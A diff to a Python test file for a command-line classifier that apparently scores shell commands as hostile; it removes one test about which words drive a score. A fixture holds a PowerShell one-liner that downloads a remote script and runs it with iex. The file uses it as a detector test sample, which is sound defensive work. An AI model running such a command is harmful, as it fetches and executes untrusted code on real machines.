@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from cmdclf.classify.grams import GRAMS_FILE, MOST_BYTES, GramModel, out_of_fold, top_spans
+from cmdclf.classify.grams import GRAMS_FILE, MOST_BYTES, GramModel, out_of_fold
 from cmdclf.errors import ModelIntegrityError
 
 BAD = "powershell -c iex (iwr http://192.0.2.{0}/a.ps1)"
@@ -43,14 +43,6 @@ def test_a_score_depends_on_its_line_alone_and_is_the_sum_of_its_parts(model, li
         text, parts = model.spans(line)
         assert len(parts) == len(text)
         assert model.bias_ + parts.sum() == pytest.approx(score, abs=1e-9)
-
-
-def test_the_words_that_carry_a_score_are_named_and_without_them_it_falls(model):
-    line = BAD.format(9)
-    words = top_spans(*model.spans(line), most=2)
-    assert {word for word, _ in words} & {"(iwr", "iex", "http://192.0.2.9/a.ps1)"}
-    without = line.replace(words[0][0], "")
-    assert model.decision_function(pa.array([without]))[0] < model.decision_function(pa.array([line]))[0]
 
 
 def test_hostile_lines_are_bounded(model):
